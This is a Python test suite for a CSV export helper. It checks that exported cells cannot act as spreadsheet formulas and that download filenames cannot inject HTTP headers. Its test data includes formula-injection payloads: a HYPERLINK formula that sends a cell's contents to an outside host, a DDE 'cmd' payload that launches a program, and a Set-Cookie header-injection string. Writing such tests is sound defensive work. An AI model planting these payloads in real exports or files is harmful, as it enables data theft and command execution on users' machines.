import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kinekracht.spreadsheets import csv_response, harmless

FORMULAS = [
    '=HYPERLINK("https://kwaad.be?x="&A1)',
    "+32470123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "Jan,=1+1",
    'Jan";=1+1',
    "Jan\n=1+1",
    "Jan\u2028=1+1",
    "Jan\t@SUM(1)",
]
SEPARATORS = ",;\t|"


def table(*rows, header=("wie", "wat")):
    """What a program that reads it right makes of it."""
    content = csv_response("log.csv", header, rows).content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";", strict=True))


def formulas_in(content):
    """The cells that a program could take for a formula, whichever separator it was told."""
    return [
        cell
        for separator in SEPARATORS
        for row in csv.reader(io.StringIO(content), delimiter=separator)
        for cell in row
        if unicodedata.normalize("NFKC", cell.strip().lstrip("\"' ") or " ")[0] in "=+-@"
        and not cell.strip().lstrip('" ').startswith("'")
    ]


def test_a_table_is_read_back_as_it_was():
    rows = [["Jo Maes", "las dossier 12"], ['Zei "dag"; en ging', "a,b"], ["", "é ü 😀"]]
    assert table(*rows) == [["wie", "wat"], *rows]


def test_what_is_no_text_stands_there_as_it_is():
    assert table([-5, 2.5], [None, 0])[1:] == [["-5", "2.5"], ["", "0"]]


def test_it_is_a_file_that_nobody_keeps():
    response = csv_response("Toegang – mei.csv", ["wie"], [])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename")
    assert response["Cache-Control"] == "no-store"
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_a_name_adds_no_header():
    response = csv_response('a"\r\nSet-Cookie: x=1', ["wie"], [])
    assert "\n" not in response["Content-Disposition"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_is_a_formula(cell):
    content = csv_response("log.csv", ["wie"], [[cell, cell]]).content.decode("utf-8-sig")
    assert formulas_in(content) == []
    assert content.count("\r\n") == len(content.splitlines()) == 2


def test_without_protection_they_would_be():
    file = io.StringIO()
    csv.writer(file, delimiter=";").writerows([cell] for cell in FORMULAS)
    assert len(formulas_in(file.getvalue())) > len(FORMULAS) / 2


def test_a_sign_inside_a_sentence_stays_as_it_is():
    for sentence in ("an@example.com", "9-12 uur", "1 + 1 = 2", "Jan, Piet; en An"):
        assert harmless(sentence) == sentence


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_whatever_is_in_it_no_cell_is_a_formula(cells):
    content = csv_response("log.csv", ["wie"], [cells]).content.decode("utf-8-sig")
    assert formulas_in(content) == []
    read = list(csv.reader(io.StringIO(content), delimiter=";", strict=True))
    assert [len(row) for row in read] == [1, len(cells)]
